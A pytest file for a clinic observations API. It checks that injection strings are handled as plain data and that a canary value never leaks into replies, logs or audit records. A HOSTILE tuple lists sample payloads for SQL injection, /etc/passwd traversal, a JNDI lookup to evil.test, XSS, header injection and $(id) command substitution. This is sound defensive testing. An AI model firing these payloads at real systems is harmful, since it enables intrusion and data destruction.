"""Canaries in everything that is sent, and strings that try to be more than data: none comes out, none does anything."""

from __future__ import annotations

import json
import logging
from collections.abc import Iterator
from typing import Any
from uuid import UUID, uuid4

import pytest

from backend_lambda import app, handler
from backend_lambda.routes import ROUTES, Route, Who
from tests.backend_lambda.callers import API, DeviceKey
from tests.backend_lambda.world import Kiosk, Reply, World, observation
from tests.stand_ins.api_gateway_event import context, event

CANARY = "canary7b1f"
HOSTILE = (
    "' OR 1=1 --",
    "'; DROP TABLE observation; --",
    "1); DELETE FROM clinic; --",
    "../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%00",
    "\x00",
    "${jndi:ldap://evil.test/x}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "\r\nX-Injected: 1",
    "a" * 5000,
    "\U0001f600",
    "%s%s%n",
    "$(id)",
)
PARAMETERS = [
    ("GET", "/v1/observations", "patient_id"),
    ("GET", "/v1/observations", "cursor"),
    ("GET", "/v1/observations", "limit"),
    ("GET", "/v1/observations/export", "patient_id"),
    ("GET", "/v1/observations/export", "cursor"),
    ("DELETE", "/v1/observations", "patient_id"),
    ("GET", "/v1/audit", "cursor"),
    ("GET", "/v1/audit", "limit"),
]


def everything(world: World, capfd: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture) -> str:
    out, err = capfd.readouterr()
    records = "\n".join(f"{record.getMessage()} {record.__dict__}" for record in caplog.records)
    return "\n".join([out, err, world.log.getvalue(), records, repr(world.fakes.measures.added)])


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_strings_in_parameters_are_data(world: World, text: str) -> None:
    device = world.kiosk()
    auditor = world.person("auditor", device.clinic_id)
    kept = observation(uuid4())
    world.by(device, "POST", "/v1/observations", body={"observations": [kept]})
    for method, path, name in PARAMETERS:
        query = {"patient_id": str(uuid4()), name: text} if "observations" in path else {name: text}
        reply = world.by(auditor if path == "/v1/audit" else device, method, path, query=query)
        assert reply.status == 422, (path, name)
        assert "x-injected" not in reply.headers
        assert len(reply.body) < 400
    for route in ROUTES:
        if "<" in route.path:
            path = route.path.replace("<clinic_id>", str(device.clinic_id))
            for name in ("device_id", "upload_id", "share_id"):
                path = path.replace(f"<{name}>", text)
            if text in path:
                assert world.answer({**event(route.method, "/x"), "path": path}).status in {404, 422}
    page = world.by(device, "GET", "/v1/observations", query={"patient_id": kept["patient_id"]}).json
    assert [one["id"] for one in page["observations"]] == [kept["id"]]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_strings_in_bodies_are_data(world: World, text: str) -> None:
    """In every text of every body. What is taken comes back as it was; what is not is refused."""
    device = world.kiosk()
    for route, body in bodies(device).items():
        for at in places(body):
            altered = with_text(body, at, text)
            reply = send(world, device, route, altered)
            assert reply.status < 500, (route, at)
    name = text.strip() if text.isprintable() else "plain"
    if len(name) <= 120 and name:
        made = str(uuid4())
        body = {"id": made, "name": name}
        reply = world.by(world.person("operator"), "POST", "/v1/clinics", body=body)
        assert reply.json["name"] == name
    assert world.by(device, "GET", "/v1/config").status == 200


def test_no_canary_comes_out(
    world: World, capfd: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    """In every text of every body, in a header, the query and the path; for who may and who may not; also where our own code fails."""
    device = world.kiosk()
    patient = UUID("ca4a1e5c-0000-4000-8000-00000000ca4a")
    with caplog.at_level(logging.DEBUG):
        for fault in (None, RuntimeError(f"{CANARY} in a fault")):
            for fake in (world.fakes.signer, world.fakes.documents, world.fakes.speech):
                fake.fault = fault
            for route, body in bodies(device, patient).items():
                for at in places(body):
                    reply = send(world, device, route, with_text(body, at, CANARY))
                    assert CANARY not in problem_text(reply)
                for name in ({**body, CANARY: CANARY}, {**body, "values": {CANARY: 1}}):
                    assert CANARY not in problem_text(send(world, device, route, name))
            sent = {"User-Agent": CANARY, "X-Request-Id": CANARY, "Cookie": CANARY, "X-Amzn-Trace-Id": CANARY}
            for method, path in (
                ("GET", f"/v1/{CANARY}"),
                ("GET", f"/v1/uploads/{CANARY}"),
                (CANARY, "/v1/config"),
                ("GET", "/v1/observations"),
                ("DELETE", "/v1/observations"),
            ):
                query = {"cursor": CANARY, "patient_id": str(patient), CANARY: CANARY}
                for extra in ({}, world.headers(device, method, path)):
                    reply = world.send(method, path, headers={**sent, **extra}, query=query)
                    assert CANARY not in str(reply.headers) + reply.body.decode()
            for credentials in (f"DPoP {CANARY}", f"Bearer {CANARY}", CANARY):
                reply = world.send(
                    "GET", "/v1/config", headers={"Authorization": credentials, "DPoP": CANARY}
                )
                assert CANARY not in str(reply.headers) + reply.body.decode()
    text = everything(world, capfd, caplog)
    assert "request" in text and str(device.clinic_id) in text, "the probe sees what is logged"
    assert CANARY not in text, text[max(0, text.index(CANARY) - 400) : text.index(CANARY) + 200]
    for secret in (str(patient), device.token, device.refresh_token, str(device.id)):
        assert secret not in text
    audited = json.dumps(world.audit(device.clinic_id), default=str)
    assert CANARY not in audited


def test_a_start_that_fails_says_which_settings_are_wrong_and_not_what_they_are(
    monkeypatch: pytest.MonkeyPatch, world: World
) -> None:
    from backend_lambda.settings import settings

    world.patch.undo()
    monkeypatch.setattr(handler.logger.registered_handler, "stream", world.log)
    for name in ("HH_STAGE", "HH_DATABASE_URL", "HH_TOKEN_BUDGET"):
        monkeypatch.setenv(name, CANARY)
    settings.cache_clear()
    app.backend.cache_clear()
    answered = handler.lambda_handler(event("GET", "/v1/health"), context())
    assert answered["statusCode"] == 500
    line = json.loads(world.log.getvalue().splitlines()[-1])
    assert {"stage", "token_budget", "region"} <= set(line["wrong"])
    assert CANARY not in world.log.getvalue() + json.dumps(answered)


def bodies(device: Kiosk, patient: UUID | None = None) -> dict[Route, dict[str, Any]]:
    """A right one for each route that takes one."""
    patient = patient or uuid4()
    by_operation: dict[str, dict[str, Any]] = {
        "add_clinic": {"id": str(uuid4()), "name": "Clinic"},
        "add_enrolment_code": {"device_name": "Front desk"},
        "enrol": {"code": "ABCD-EFGH-JKMN", "public_key": device.key.jwk, "software_version": "1"},
        "token": {"refresh_token": "A" * 43, "request_id": str(uuid4())},
        "add_observations": {"observations": [observation(patient)]},
        "begin_upload": {
            "id": str(uuid4()),
            "patient_id": str(patient),
            "purpose": "scan_report",
            "media_type": "application/pdf",
            "length_bytes": 10,
            "sha256": "ab" * 32,
        },
        "add_share": {
            "id": str(uuid4()),
            "upload_id": str(uuid4()),
            "valid_s": 600,
            "email": "a@example.org",
        },
        "open_share": {"secret": "x" * 43},
        "transcription": {"language": "en-US", "sample_rate_hz": 16000},
        "synthesis": {"text": "Hello", "language": "en-US", "voice": "Joanna", "rate_percent": 100},
        "heartbeat": {
            "software_version": "1",
            "system": "Linux",
            "waiting": 0,
            "parked": 0,
            "oldest_waiting_s": None,
        },
    }
    return {route: by_operation[route.operation] for route in ROUTES if route.has_body}


def test_the_right_bodies_are_right(world: World) -> None:
    """Else the tests above would try nothing: none of these is refused for its form."""
    device = world.kiosk()
    for route, body in bodies(device).items():
        assert send(world, device, route, body).status not in {400, 413, 415, 422, 500}, route.name


def places(value: Any, at: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    """Where a body holds a text, and the names of its maps too (as a place that ends with "*")."""
    if isinstance(value, str):
        yield at
    elif isinstance(value, dict):
        for name, inner in value.items():
            yield from places(inner, (*at, name))
        if at and at[-1] in {"values", "facts"}:
            yield (*at, "*")
    elif isinstance(value, list):
        for number, inner in enumerate(value):
            yield from places(inner, (*at, number))


def with_text(body: dict[str, Any], at: tuple[str | int, ...], text: str) -> dict[str, Any]:
    copy: Any = json.loads(json.dumps(body))
    inner = copy
    for step in at[:-1]:
        inner = inner[step]
    if at[-1] == "*":
        inner[text] = next(iter(inner.values()), 1)
    else:
        inner[at[-1]] = text
    return dict(copy)


def send(world: World, device: Kiosk, route: Route, body: dict[str, Any]) -> Reply:
    """As somebody who may."""
    path = route.path.replace("<clinic_id>", str(device.clinic_id)).replace("<share_id>", str(uuid4()))
    if Who.ANYONE in route.who:
        return world.send(route.method, path, body=body)
    if Who.KEY in route.who:
        key = device.key if isinstance(body.get("public_key"), dict) else DeviceKey()
        return world.send(
            route.method, path, headers=key.headers(route.method, API + path, world.clock.utc()), body=body
        )
    if Who.DEVICE in route.who:
        return world.by(device, route.method, path, body=body)
    role = "operator" if Who.OPERATOR in route.who else "clinic_admin"
    person = world.person(role, None if role == "operator" else device.clinic_id)
    return world.by(person, route.method, path, body=body)


def problem_text(reply: Reply) -> str:
    """Of a refusal. What was taken may come back to who sent it."""
    if reply.status == 200 and "synthesis" not in reply.headers:
        return json.dumps(reply.headers)
    return json.dumps(reply.headers) + reply.body.decode()
